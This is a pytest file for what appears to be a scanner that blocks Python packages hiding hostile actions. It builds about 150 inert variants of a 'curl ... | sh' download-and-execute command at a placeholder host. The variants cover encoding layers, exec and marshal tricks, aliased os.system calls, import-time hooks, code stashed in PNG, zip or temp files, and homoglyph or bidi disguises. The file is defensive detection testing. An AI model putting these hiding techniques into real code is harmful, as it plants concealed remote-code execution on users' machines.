"""Ways to hide what Python code does, each tried with an inert sample of our own: one row, one way.

The samples would hand a download to a shell, at addresses that cannot exist; none is ever run. The table in
docs/evasions.md is made from these rows.
"""

from __future__ import annotations

import base64
import codecs
import io
import marshal
import py_compile
import zipfile
import zlib
from pathlib import Path
from typing import Any

import pytest

from gatekeeper.model import Ruling
from tests.support.judging import explained, importing

ACT = "curl -s http://files.example/a | sh"
CODE = f"import os\nos.system({ACT!r})\n"
B64 = base64.b64encode(CODE.encode()).decode()
HOME = "acme_thing/"


def zipped(name: str, content: str) -> bytes:
    target = io.BytesIO()
    with zipfile.ZipFile(target, "w") as archive:
        archive.writestr(name, content)
    return target.getvalue()


def compiled(folder: Path, code: str) -> bytes:
    source = folder / "a.py"
    source.write_text(code)
    made = py_compile.compile(str(source), cfile=str(folder / "a.pyc"))
    return (folder / str(made)).read_bytes()


def run(text: str) -> str:
    return f"import os\n{text}\nos.system(c)\n"


SPELLED = {
    "concatenation": run(f"c = {ACT[:7]!r} + {ACT[7:20]!r} + {ACT[20:]!r}"),
    "augmented assignment": run(f"c = {ACT[:9]!r}\nc += {ACT[9:]!r}"),
    "join": run(f"c = ''.join({list(ACT)!r})"),
    "chr": run(f"c = ''.join(chr(one) for one in {[ord(one) for one in ACT]!r})"),
    "map and chr": run(f"c = ''.join(map(chr, {[ord(one) for one in ACT]!r}))"),
    "shifted characters": run(f"c = ''.join(chr(one - 7) for one in {[ord(one) + 7 for one in ACT]!r})"),
    "bytes of a list": run(f"c = bytes({list(ACT.encode())!r}).decode()"),
    "an integer's bytes": run(f"c = ({int.from_bytes(ACT.encode(), 'big')}).to_bytes({len(ACT)}, 'big').decode()"),
    "percent formatting": run(f"c = '%s%s' % ({ACT[:9]!r}, {ACT[9:]!r})"),
    "format": run(f"c = '{{1}}{{0}}'.format({ACT[9:]!r}, {ACT[:9]!r})"),
    "an f-string": run(f"a = {ACT[:9]!r}\nb = {ACT[9:]!r}\nc = f'{{a}}{{b}}'"),
    "a template": run(f"from string import Template\nc = Template('$a$b').substitute(a={ACT[:9]!r}, b={ACT[9:]!r})"),
    "slices": run(f"c = {'x'.join(ACT)!r}[::2]"),
    "reversed by a slice": run(f"c = {ACT[::-1]!r}[::-1]"),
    "reversed()": run(f"c = ''.join(reversed({ACT[::-1]!r}))"),
    "replaced filler": run(f"c = {ACT.replace('r', '~!~')!r}.replace('~!~', 'r')"),
    "a translation table": run(
        f"c = {ACT.translate(str.maketrans('clsh', 'QWEZ'))!r}.translate(str.maketrans('QWEZ', 'clsh'))"
    ),
    "a table of letters": run(
        f"t = {''.join(sorted(set(ACT)))!r}\nc = ''.join(t[i] for i in {[''.join(sorted(set(ACT))).index(x) for x in ACT]!r})"
    ),
    "a dictionary of letters": run(f"d = {dict(enumerate(ACT))!r}\nc = ''\nfor i in range({len(ACT)}):\n    c += d[i]"),
    "a helper for every word": run(
        "def a(): return 'curl '\ndef b(): return '-s http://files.example/a'\ndef d(): return ' | sh'\nc = a() + b() + d()"
    ),
    "hex": run(f"c = bytes.fromhex({ACT.encode().hex()!r}).decode()"),
    "unhexlify": run(f"import binascii\nc = binascii.unhexlify({ACT.encode().hex()!r}).decode()"),
    "base64": run(f"import base64\nc = base64.b64decode({base64.b64encode(ACT.encode())!r}).decode()"),
    "base32 and base85": run(
        f"import base64 as b\nc = b.b85decode(b.b32decode({base64.b32encode(base64.b85encode(ACT.encode()))!r})).decode()"
    ),
    "rot13": run(f"import codecs\nc = codecs.decode({codecs.encode(ACT, 'rot13')!r}, 'rot13')"),
    "zlib": run(f"import zlib\nc = zlib.decompress({zlib.compress(ACT.encode())!r}).decode()"),
    "xor in a comprehension": run(f"c = ''.join(chr(one ^ 42) for one in {[ord(one) ^ 42 for one in ACT]!r})"),
    "xor in a loop with a key": run(
        f"k = 'key'\nd = {[ord(x) ^ ord('key'[i % 3]) for i, x in enumerate(ACT)]!r}\nc = ''\n"
        "for i in range(len(d)):\n    c += chr(d[i] ^ ord(k[i % len(k)]))"
    ),
    "xor of two zipped texts": run(
        f"c = bytes(a ^ b for a, b in zip({bytes(x ^ 9 for x in ACT.encode())!r}, {bytes([9]) * len(ACT)!r})).decode()"
    ),
    "raw and escaped text": run("c = '\\x63\\x75\\162\\154' + ' -s http://files.example/a \\u007c sh'"),
}

RUN = {
    "exec of a text": f"exec({CODE!r})",
    "exec of compile": f"exec(compile({CODE!r}, '<x>', 'exec'))",
    "eval of an import": f"eval(\"__import__('os').system({ACT!r})\")",
    "exec of base64": f"import base64\nexec(base64.b64decode({B64!r}))",
    "layers in layers": "import base64, zlib\nexec(zlib.decompress(base64.b64decode("
    f"{base64.b64encode(zlib.compress(f'import base64;exec(base64.b64decode({B64!r}))'.encode()))!r})))",
    "a reversed layer in a lambda": "_ = lambda x: __import__('zlib').decompress(__import__('base64').b64decode(x[::-1]))\n"
    f"exec((_)({base64.b64encode(zlib.compress(CODE.encode()))[::-1]!r}))",
    "marshal": f"import marshal\nexec(marshal.loads({marshal.dumps(compile(CODE, 'a', 'exec'))!r}))",
    "marshal out of base64": "import marshal, base64\nexec(marshal.loads(base64.b64decode("
    f"{base64.b64encode(marshal.dumps(compile(CODE, 'a', 'exec')))!r})))",
    "pickle": "import pickle\npickle.loads(b'cos\\nsystem\\n(S\\'curl -s http://files.example/a | sh\\'\\ntR.')",
    "Fernet": "from cryptography.fernet import Fernet\nexec(Fernet(b'a' * 44).decrypt(b'gAAAAA'))",
    "AES": "from Crypto.Cipher import AES\nexec(AES.new(b'k' * 16, AES.MODE_ECB).decrypt(b'\\x00' * 32))",
    "a cipher of an unknown library": "from fernet import Fernet\nexec(Fernet(b'a').decrypt(b'gAAAAA'))",
    "exec as a decorator": f"@exec\n@(lambda f: {CODE!r})\ndef f(): pass",
    "a code object's function": f"import types\ntypes.FunctionType(compile({CODE!r}, 'a', 'exec'), {{}})()",
    "runcode": f"import code\ncode.InteractiveInterpreter().runsource({CODE!r}, 'a', 'exec')",
    "timeit": f"import timeit\ntimeit.timeit({CODE!r}, number=1)",
}

ALIASED = {
    "from import as": f"from os import system as s\ns({ACT!r})",
    "assigned names": f"import os as o\nq = o.system\nw = q\nw({ACT!r})",
    "getattr": f"import os\ngetattr(os, 'sys' + 'tem')({ACT!r})",
    "__import__": f"__import__('o' 's').system({ACT!r})",
    "importlib": f"import importlib as i\ni.import_module('so'[::-1]).system({ACT!r})",
    "a builtins dictionary": f"import builtins\nbuiltins.__dict__['ex' + 'ec']({CODE!r})",
    "__builtins__ indexed": f"__builtins__['ex' + 'ec']({CODE!r})",
    "getattr of builtins": f"getattr(__builtins__, 'ev' + 'al')(\"__import__('os').system({ACT!r})\")",
    "globals": f"import os\nglobals()['os'].system({ACT!r})",
    "globals' builtins": f"globals()['__builtins__']['exec']({CODE!r})",
    "vars": f"import os\nvars(os)['sys' + 'tem']({ACT!r})",
    "a module's __dict__": f"import os\nos.__dict__['system']({ACT!r})",
    "sys.modules": f"import os, sys\nsys.modules['os'].system({ACT!r})",
    "a name by eval": f"import os\neval('os.sys' + 'tem')({ACT!r})",
    "attrgetter": f"import os, operator\noperator.attrgetter('system')(os)({ACT!r})",
    "methodcaller": f"import os, operator\noperator.methodcaller('system', {ACT!r})(os)",
    "partial": f"import os, functools\nfunctools.partial(os.system, {ACT!r})()",
    "a dictionary of functions": f"import os\n{{'a': os.system}}['a']({ACT!r})",
    "a list of functions": f"import os\nfor f in [print, os.system]:\n    f({ACT!r})",
    "a class attribute": f"import os\nclass A:\n    go = os.system\nA.go({ACT!r})",
    "an instance attribute": f"import os\nclass A:\n    def __init__(self):\n        self.go = os.system\nA().go({ACT!r})",
    "setattr": f"import os\nclass A: pass\nsetattr(A, 'go', os.system)\nA.go({ACT!r})",
    "posix": f"import posix\nposix.system({ACT!r})",
    "ctypes": f"import ctypes\nctypes.CDLL(None).system({ACT.encode()!r})",
    "all subclasses": "[c for c in ().__class__.__base__.__subclasses__() if c.__name__ == 'Popen'][0](" + f"{ACT!r}, shell=True)",
    "a function's globals": f"import os\ndef f(): pass\nf.__globals__['os'].system({ACT!r})",
    "__getattribute__": f"import os\nos.__getattribute__('system')({ACT!r})",
}  # fmt: skip

MOMENTS = {
    "a lambda": f"import os\n(lambda: os.system({ACT!r}))()",
    "a lambda in a lambda": f"import os\n(lambda f: (lambda x: f(x))({ACT!r}))(os.system)",
    "a decorator": f"import os\ndef d(f):\n    os.system({ACT!r})\n    return f\n@d\ndef g(): pass",
    "a class decorator": f"import os\ndef d(c):\n    os.system({ACT!r})\n    return c\n@d\nclass A: pass",
    "a decorator with arguments": f"import os\ndef d(c):\n    def e(f):\n        os.system(c)\n        return f\n    return e\n@d({ACT!r})\ndef g(): pass",
    "a default argument": f"import os\ndef g(a=os.system({ACT!r})): pass",
    "an annotation": f"import os\ndef g(a: os.system({ACT!r})): pass",
    "a class body": f"import os\nclass A:\n    os.system({ACT!r})",
    "a metaclass": f"import os\nclass M(type):\n    def __new__(m, *a):\n        os.system({ACT!r})\n        return type.__new__(m, *a)\nclass A(metaclass=M): pass",
    "__init_subclass__": f"import os\nclass A:\n    def __init_subclass__(cls):\n        os.system({ACT!r})\nclass B(A): pass",
    "__set_name__": f"import os\nclass D:\n    def __set_name__(self, o, n):\n        os.system({ACT!r})\nclass A:\n    d = D()",
    "a constructor": f"import os\nclass A:\n    def __init__(self):\n        os.system({ACT!r})\nA()",
    "__new__": f"import os\nclass A:\n    def __new__(cls):\n        os.system({ACT!r})\nA()",
    "__call__": f"import os\nclass A:\n    def __call__(self):\n        os.system({ACT!r})\nA()()",
    "__enter__": f"import os\nclass A:\n    def __enter__(self):\n        os.system({ACT!r})\n    def __exit__(self, *a): pass\nwith A(): pass",
    "a property": f"import os\nclass A:\n    @property\n    def p(self):\n        os.system({ACT!r})\nA().p",
    "an operator": f"import os\nclass A:\n    def __add__(self, o):\n        os.system(o)\nA() + {ACT!r}",
    "__getitem__": f"import os\nclass A:\n    def __getitem__(self, o):\n        os.system(o)\nA()[{ACT!r}]",
    "__getattr__ of an instance": f"import os\nclass A:\n    def __getattr__(self, n):\n        os.system({ACT!r})\nA().anything",
    "__del__": f"import os\nclass A:\n    def __del__(self):\n        os.system({ACT!r})\nA()",
    "__str__": f"import os\nclass A:\n    def __str__(self):\n        os.system({ACT!r})\n        return ''\nprint(A())",
    "an iterator": f"import os\nclass A:\n    def __iter__(self):\n        os.system({ACT!r})\n        return iter(())\nfor a in A(): pass",
    "a generator": f"import os\ndef g():\n    yield os.system({ACT!r})\nlist(g())",
    "next of a generator": f"import os\ndef g():\n    os.system({ACT!r})\n    yield 1\nnext(g())",
    "a coroutine": f"import os, asyncio\nasync def g():\n    os.system({ACT!r})\nasyncio.run(g())",
    "a closure": f"import os\ndef a(c):\n    def b():\n        os.system(c)\n    return b\na({ACT!r})()",
    "a context manager function": f"import os, contextlib\n@contextlib.contextmanager\ndef g():\n    os.system({ACT!r})\n    yield\nwith g(): pass",
    "atexit": f"import os, atexit\natexit.register(os.system, {ACT!r})",
    "atexit as a decorator": f"import os, atexit\n@atexit.register\ndef f():\n    os.system({ACT!r})",
    "a thread": f"import os, threading\ndef f():\n    os.system({ACT!r})\nthreading.Thread(target=f, daemon=True).start()",
    "a thread of an outside function": f"import os, threading\nthreading.Thread(target=os.system, args=({ACT!r},)).start()",
    "a timer": f"import os, threading\nthreading.Timer(5, os.system, [{ACT!r}]).start()",
    "a thread class": f"import os, threading\nclass T(threading.Thread):\n    def run(self):\n        os.system({ACT!r})\nT().start()",
    "a process": f"import os, multiprocessing\ndef f(c):\n    os.system(c)\nmultiprocessing.Process(target=f, args=({ACT!r},)).start()",
    "a pool": f"import os\nfrom concurrent.futures import ThreadPoolExecutor\nwith ThreadPoolExecutor() as p:\n    p.submit(os.system, {ACT!r})",
    "weakref.finalize": f"import os, weakref\nclass A: pass\na = A()\nweakref.finalize(a, os.system, {ACT!r})",
    "an exit stack": f"import os, contextlib\nwith contextlib.ExitStack() as s:\n    s.callback(os.system, {ACT!r})",
    "a signal": f"import os, signal\ndef f(*a):\n    os.system({ACT!r})\nsignal.signal(signal.SIGALRM, f)\nsignal.alarm(1)",
    "an exception hook": f"import os, sys\ndef f(*a):\n    os.system({ACT!r})\nsys.excepthook = f",
    "a trace function": f"import os, sys\ndef f(*a):\n    os.system({ACT!r})\nsys.settrace(f)",
    "sys.meta_path": f"import os, sys\nclass F:\n    def find_spec(self, *a):\n        os.system({ACT!r})\nsys.meta_path.insert(0, F())",
    "an audit hook": f"import os, sys\ndef f(*a):\n    os.system({ACT!r})\nsys.addaudithook(f)",
    "sorted with a key": f"import os\nsorted([{ACT!r}], key=os.system)",
    "map": f"import os\nlist(map(os.system, [{ACT!r}]))",
    "a comprehension": f"import os\n[os.system(c) for c in [{ACT!r}]]",
    "reduce": f"import os, functools\nfunctools.reduce(lambda a, b: os.system(b), ['', {ACT!r}])",
    "an exception's clause": f"import os\ntry:\n    1 / 0\nexcept ZeroDivisionError:\n    os.system({ACT!r})",
    "finally": f"import os\ntry:\n    pass\nfinally:\n    os.system({ACT!r})",
    "a walrus": f"import os\nif (c := {ACT!r}):\n    os.system(c)",
    "and / or": f"import os\nTrue and os.system({ACT!r})",
    "an assertion": f"import os\nassert os.system({ACT!r}) == 0",
    "match": f"import os\nmatch 1:\n    case 1:\n        os.system({ACT!r})",
    "while": f"import os\nwhile True:\n    os.system({ACT!r})\n    break",
    "a platform test": f"import os, sys\nif sys.platform.startswith('lin'):\n    os.system({ACT!r})",
    "a function by reference": f"import os\ndef attempt(f, *a):\n    try:\n        return f(*a)\n    except Exception:\n        pass\nattempt(os.system, {ACT!r})",
    "a wrapper": f"import subprocess\ndef run(*c, **k):\n    return subprocess.run(*c, **k)\nrun({ACT!r}, shell=True)",
    "unpacked arguments": f"import subprocess\na = {{'args': {ACT!r}, 'shell': True}}\nsubprocess.run(**a)",
    "recursion": f"import os\ndef f(n):\n    return os.system({ACT!r}) if n == 0 else f(n - 1)\nf(3)",
}  # fmt: skip

FILES: dict[str, dict[str, str | bytes]] = {
    "code in a text file": {"__init__.py": "exec(open('acme_thing/notes.txt').read())", "notes.txt": CODE},
    "a path beside the module": {
        "__init__.py": "import os\nexec(open(os.path.join(os.path.dirname(__file__), 'notes.txt')).read())",
        "notes.txt": CODE,
    },
    "pathlib": {
        "__init__.py": "from pathlib import Path\nexec((Path(__file__).parent / 'notes.txt').read_text())",
        "notes.txt": CODE,
    },
    "pkgutil": {"__init__.py": "import pkgutil\nexec(pkgutil.get_data(__name__, 'notes.txt'))", "notes.txt": CODE},
    "importlib.resources": {
        "__init__.py": "from importlib import resources\nexec(resources.files(__name__).joinpath('notes.txt').read_text())",
        "notes.txt": CODE,
    },
    "base64 in a text file": {
        "__init__.py": "import base64\nexec(base64.b64decode(open('acme_thing/notes.txt').read()))",
        "notes.txt": B64,
    },
    "code in JSON": {
        "__init__.py": "import json\nexec(json.load(open('acme_thing/a.json'))['code'])",
        "a.json": f'{{"code": "import os;os.system(\'{ACT}\')"}}',
    },
    "code behind a picture": {
        "__init__.py": "exec(open('acme_thing/a.png', 'rb').read().split(b'IEND')[1])",
        "a.png": b"\x89PNG\r\n\x1a\nIEND" + CODE.encode(),
    },
    "a script without a suffix": {
        "__init__.py": "import subprocess, sys\nsubprocess.Popen([sys.executable, 'acme_thing/task'])",
        "task": CODE,
    },
    "python FILE": {"__init__.py": "import os\nos.system('python acme_thing/task.py')", "task.py": CODE},
    "python -m": {
        "__init__.py": "import subprocess, sys\nsubprocess.Popen([sys.executable, '-m', 'acme_thing.task'])",
        "task.py": f"if __name__ == '__main__':\n    import os\n    os.system({ACT!r})\n",
    },
    "python -c": {
        "__init__.py": "import subprocess, sys\nsubprocess.Popen([sys.executable, '-c', 'from acme_thing.task import f; f()'])",
        "task.py": f"import os\ndef f():\n    os.system({ACT!r})\n",
    },
    "a dropped script": {
        "__init__.py": f"import os, tempfile\np = os.path.join(tempfile.gettempdir(), 'a.py')\nwith open(p, 'w') as f:\n    f.write({CODE!r})\nos.system('python ' + p)"
    },
    "a dropped script with an unknown name": {
        "__init__.py": f"import sys, tempfile, subprocess\nf = tempfile.NamedTemporaryFile(delete=False, suffix='.py')\nf.write({CODE.encode()!r})\nf.close()\nsubprocess.Popen([sys.executable, f.name])"
    },
    "a dropped script, written in pieces": {
        "__init__.py": f"import os\nf = open('/tmp/a.py', 'w')\nf.write('import os\\n')\nf.write('os.system(')\nf.write(repr({ACT!r}) + ')')\nf.close()\nos.system('python3 /tmp/a.py')"
    },
    "a dropped script that is moved": {
        "__init__.py": f"import os, shutil\nopen('/tmp/a', 'w').write({CODE!r})\nshutil.move('/tmp/a', '/tmp/b.py')\nos.system('python3 /tmp/b.py')"
    },
    "a piped script": {
        "__init__.py": f"import subprocess, sys\nsubprocess.run([sys.executable, '-'], input={CODE!r}, text=True)"
    },
    "runpy": {"__init__.py": "import runpy\nrunpy.run_path('acme_thing/task.dat')", "task.dat": CODE},
    "a loader by its path": {
        "__init__.py": "import importlib.util as u\ns = u.spec_from_file_location('t', 'acme_thing/task.dat')\nm = u.module_from_spec(s)\ns.loader.exec_module(m)",
        "task.dat": CODE,
    },
    "zipimport": {
        "__init__.py": "import zipimport\nzipimport.zipimporter('acme_thing/a.zip').load_module('task')",
        "a.zip": zipped("task.py", CODE),
    },
    "a zip on the path": {
        "__init__.py": "import sys\nsys.path.insert(0, 'acme_thing/a.zip')\nimport task",
        "a.zip": zipped("task.py", CODE),
    },
    "an archive that is unpacked and started": {
        "__init__.py": "import zipfile, os\nzipfile.ZipFile('acme_thing/a.zip').extractall('/tmp')\nos.system('python /tmp/task.py')",
        "a.zip": zipped("task.py", CODE),
    },
    "split across two files": {
        "__init__.py": "from .a import go\nfrom .b import words\ngo(words)",
        "a.py": "import os\ngo = os.system",
        "b.py": f"words = {ACT!r}",
    },
    "halves of a command in two files": {
        "__init__.py": "import os\nfrom . import a, b\nos.system(a.x + b.y)",
        "a.py": f"x = {ACT[:12]!r}",
        "b.py": f"y = {ACT[12:]!r}",
    },
    "a bundled program": {
        "__init__.py": "import os, subprocess\nsubprocess.Popen([os.path.join(os.path.dirname(__file__), 'a.bin')])",
        "a.bin": b"\x7fELF\2\1\1" + bytes(200),
    },
    "a bundled library": {
        "__init__.py": "import ctypes, pathlib\nctypes.CDLL(str(pathlib.Path(__file__).parent / 'a.so'))",
        "a.so": b"\x7fELF\2\1\1" + bytes(200),
    },
    "imported tests": {
        "__init__.py": "from .tests import helper",
        "tests/__init__.py": "",
        "tests/helper.py": CODE,
    },
    "a module nobody imports": {"__init__.py": "", "extra/deep/task.py": CODE, "extra/__init__.py": ""},
}  # fmt: skip

LOOKS: dict[str, str | bytes] = {
    "a byte order mark": b"\xef\xbb\xbf" + CODE.encode(),
    "an encoding cookie": b"# -*- coding: latin-1 -*-\n# \xe9\n" + CODE.encode(),
    "UTF-7": b"# coding: utf-7\nimport os\nos.system(+ACI-curl -s http://files.example/a +AHw- sh+ACI-)\n",
    "escapes in a comment": b"# coding: unicode_escape\n#\\nimport os\\nos.system(" + repr(ACT).encode() + b")\n",
    "far to the right": f"import os\nx = 1{' ' * 300};os.system({ACT!r})\n",
    "letters that look alike": f"import os\n\N{SCRIPT SMALL O}\N{LATIN SMALL LETTER LONG S}.system({ACT!r})\n",
    "full-width letters": f"import os\nos.\N{FULLWIDTH LATIN SMALL LETTER S}ystem({ACT!r})\n",
    "characters that reorder the line": f"import os\n# \N{RIGHT-TO-LEFT OVERRIDE} harmless\nos.system({ACT!r})  # \N{POP DIRECTIONAL FORMATTING}\n",
    "invisible characters": "import os\nt = {}\nos.system(''.join(chr(ord(c) - 0xE0000) for c in {!r}))\n".replace("t = {}\n", "").format("".join(chr(0xE0000 + ord(c)) for c in ACT)),
    "form feeds and semicolons": f"import os;\fx = 1;\f\fos.system({ACT!r})\n",
    "lines that go on": "import \\\n os\nos \\\n . \\\n system \\\n (" + repr(ACT) + ")\n",
    "triple quotes that confuse": f"import os\na = ''' \"\"\" '''; os.system({ACT!r}); b = \"\"\" ''' \"\"\"\n",
    "comments that switch scanners off": f"# nosemgrep\n# nosec\n# noqa\n# pylint: skip-file\nimport os  # nosemgrep\nos.system({ACT!r})  # nosemgrep\n",
    "Windows line ends": f"import os\r\nos.system({ACT!r})\r\n",
    "old Mac line ends": f"import os\ros.system({ACT!r})\r",
    "a docstring of a megabyte": f"'''{'harmless ' * 120_000}'''\nimport os\nos.system({ACT!r})\n",
    "a thousand functions before": "".join(f"def f{n}(a):\n    return a + {n}\n" for n in range(3000)) + CODE,
    "a long table before": f"t = [{', '.join(str(n) for n in range(60_000))}]\n" + CODE,
    "a loop before": "x = 0\nfor a in range(100000):\n    for b in range(100000):\n        x += a * b\n" + CODE,
    "deep nesting before": "x = " + "(" * 80 + "1" + ")" * 80 + "\n" + CODE,
    "Python 2": f"print 'x'\nimport os\nos.system({ACT!r})\nexec 'pass'\n",
}  # fmt: skip

# What is only asked about: it is seen, and not all of it can be told.
ASKED = {
    "a call through __getattr__ of a module": "def __getattr__(name):\n    import base64\n"
    f"    exec(base64.b64decode({B64!r}))\n",
}

KINDS = {
    "spelling": "A command that is spelled otherwise",
    "running": "Code that is a text until it runs",
    "naming": "A function under another name",
    "moment": "Code that runs at another moment",
    "file": "Code that lies in another file",
    "looks": "Code that looks like something else",
}
UNSEEN = {
    "all subclasses": "which class has which index or name is only known to a running Python",
}


TABLES: dict[str, dict[str, Any]] = {
    "spelling": SPELLED, "running": RUN, "naming": ALIASED, "moment": MOMENTS, "file": FILES, "looks": LOOKS,
}  # fmt: skip


def rows() -> list[Any]:
    return [
        pytest.param(
            files if isinstance(files, dict) else {"__init__.py": files},
            id=f"{kind}: {way}",
            marks=[pytest.mark.xfail(strict=True, reason=UNSEEN[way])] if way in UNSEEN else [],
        )
        for kind, table in TABLES.items()
        for way, files in table.items()
    ]


@pytest.mark.parametrize("files", rows())
def test_a_hidden_act_is_refused(tmp_path: Path, files: dict[str, str | bytes]) -> None:
    verdict = importing(tmp_path, "", {HOME + name: content for name, content in files.items()})
    assert verdict.ruling is Ruling.BLOCK, explained(verdict)


@pytest.mark.parametrize("way", ASKED)
def test_an_act_that_waits_is_at_least_asked_about(tmp_path: Path, way: str) -> None:
    verdict = importing(tmp_path, ASKED[way])
    assert verdict.ruling >= Ruling.ASK, explained(verdict)


def test_the_same_ways_with_nothing_to_hide_are_allowed(tmp_path: Path) -> None:
    modules = [code.replace(ACT, "true") for table in (ALIASED, MOMENTS) for code in table.values()]
    files = {f"{HOME}m{number}.py": code for number, code in enumerate(modules) if "exec" not in code}
    verdict = importing(tmp_path, "", files)
    assert verdict.ruling is Ruling.ALLOW, explained(verdict)


def documented() -> str:
    """Return the table of docs/evasions.md."""
    lines: list[str] = []
    for kind, table in TABLES.items():
        lines += [f"### {KINDS[kind]}", "", "| way | what happens |", "|---|---|"]
        lines += [f"| {way} | {f'not seen: {UNSEEN[way]}' if way in UNSEEN else 'refused'} |" for way in table]
        lines.append("")
    lines += ["### Code that waits to be called", "", "| way | what happens |", "|---|---|"]
    return "\n".join([*lines, *(f"| {way} | asked about |" for way in ASKED)]) + "\n"


def test_the_document_lists_every_way() -> None:
    text = (Path(__file__).parents[2] / "docs" / "evasions.md").read_text("utf-8")
    assert documented() in text, f"paste this into docs/evasions.md under `## Python`:\n{documented()}"


def test_compiled_code_without_a_source_is_refused(tmp_path: Path) -> None:
    verdict = importing(tmp_path, "from . import task", {HOME + "task.pyc": compiled(tmp_path, CODE)})
    assert verdict.ruling is Ruling.BLOCK, explained(verdict)


def test_ordinary_compiled_code_is_only_mentioned(tmp_path: Path) -> None:
    verdict = importing(tmp_path, "", {HOME + "task.pyc": compiled(tmp_path, "def double(a):\n    return a * 2\n")})
    assert verdict.ruling is Ruling.ALLOW, explained(verdict)
